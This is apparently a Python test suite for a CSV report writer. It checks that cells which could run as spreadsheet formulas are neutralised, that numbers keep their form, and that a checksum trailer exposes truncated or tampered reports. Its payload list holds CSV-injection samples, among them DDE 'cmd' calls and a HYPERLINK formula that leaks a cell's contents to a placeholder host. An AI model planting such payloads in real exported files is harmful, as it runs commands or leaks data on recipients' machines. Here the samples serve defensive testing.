"""Reports as CSV: inert in every spreadsheet, numbers still numbers, and never short without saying so."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from regimens.sealed_csv import BrokenSeal, Seal, guarded, sealed_csv, unguarded, verify

RUNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
SEPARATORS = [";", "\t", "|", "\r", "\n", "\r\n"]
PAYLOADS = [
    *(f"{sign}1+1" for sign in RUNS),
    *(f" {sign}1+1" for sign in RUNS),
    *(f"\ufeff{sign}1+1" for sign in RUNS),
    *(f'"{sign}1+1' for sign in RUNS),
    *(f"\u00a0{sign}1+1" for sign in RUNS),
    "\tx",
    "\rx",
    "\nx",
    "\0=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org/?leak="&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_would_run_begins_with_an_apostrophe(payload):
    assert guarded(payload).startswith("'")


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("sign", RUNS)
def test_text_that_another_countrys_spreadsheet_would_split_is_guarded_behind_the_separator(separator, sign):
    for space in ("", " ", '"'):
        cell = guarded(f"Ada{separator}{space}{sign}1+1")
        assert f"{separator[-1]}'{space}{sign}1+1" in cell


@pytest.mark.parametrize(
    "text", ["Ada Example", "O'Neill", "a=b", "3-monthly", "me@example.org", "", "1+1", "ß ø 李"]
)
def test_plain_text_stays_as_it_is(text):
    assert guarded(text) == text


@given(st.text(alphabet=st.sampled_from(list("=+-@＝＋－＠'\t\r\n\0;|, \"\ufeffab1")), max_size=12))
def test_the_guard_comes_off_exactly(text):
    assert unguarded(guarded(text)) == text


@given(st.text())
def test_the_guard_comes_off_any_text(text):
    assert unguarded(guarded(text)) == text


def a_report(rows, **more):
    return b"".join(
        sealed_csv(
            about=["Report", "=Clinic"], columns=["Name", "Number"], batches=[rows[:2], rows[2:]], **more
        )
    )


def test_a_report_is_read_back_cell_by_cell():
    rows = [
        ["=1+1", -5],
        ['a "quoted", text', Decimal("1.500")],
        [None, date(2026, 11, 22)],
        ["two\nlines", 0],
    ]
    lines = list(csv.reader(io.StringIO(a_report(rows).decode(), newline="")))
    assert lines[:2] == [["Report", "'=Clinic"], ["Name", "Number"]]
    assert lines[2:-1] == [
        ["'=1+1", "-5"],
        ['a "quoted", text', "1.5"],
        ["", "2026-11-22"],
        ["two\nlines", "0"],
    ]
    assert lines[-1][:4] == ["End of report", "rows", "4", "sha256"]


@pytest.mark.parametrize(
    ("number", "cell"),
    [
        (Decimal("118.000000"), "118"),
        (Decimal("-0.50"), "-0.5"),
        (Decimal("1E+3"), "1000"),
        (Decimal("0"), "0"),
        (-3, "-3"),
    ],
)
def test_numbers_stay_numbers(number, cell):
    assert f"Ada,{cell}\r\n".encode() in a_report([["Ada", number]])


def test_a_byte_order_mark_comes_first_when_asked_for():
    assert a_report([], byte_order_mark=True).startswith(b"\xef\xbb\xbfReport")
    assert a_report([]).startswith(b"Report")


@pytest.mark.parametrize("mark", [True, False])
def test_a_whole_report_verifies(mark):
    seals = []
    report = a_report(
        [["Ada", 1], ["two\r\nlines", 2], ["Bo", 3]], byte_order_mark=mark, finished=seals.append
    )
    assert verify(io.BytesIO(report)).rows == 3
    assert seals == [verify(io.BytesIO(report))]


def test_an_empty_report_is_whole_too():
    assert verify(io.BytesIO(a_report([]))) == Seal(rows=0, sha256=verify(io.BytesIO(a_report([]))).sha256)


def test_a_report_cut_anywhere_is_refused():
    report = a_report([["Ada", 1], ["Bo", 2], ["End of report", 3]])
    for length in range(len(report)):
        with pytest.raises(BrokenSeal):
            verify(io.BytesIO(report[:length]))


def test_a_report_with_one_letter_changed_is_refused():
    report = bytearray(a_report([["Ada", 1], ["Bo", 2]]))
    for place in range(len(report)):
        changed = bytes(report[:place]) + bytes([report[place] ^ 1]) + bytes(report[place + 1 :])
        with pytest.raises(BrokenSeal):
            verify(io.BytesIO(changed))


def test_a_row_taken_out_is_refused():
    with pytest.raises(BrokenSeal, match="speaks of 2 rows; the file holds 1"):
        verify(io.BytesIO(a_report([["Ada", 1], ["Bo", 2]]).replace(b"Bo,2\r\n", b"")))


def test_what_breaks_off_was_never_finished():
    seals = []

    def batches():
        yield [["Ada", 1]]
        raise ConnectionError

    with pytest.raises(ConnectionError):
        list(sealed_csv(about=["Report"], columns=["Name"], batches=batches(), finished=seals.append))
    assert seals == []
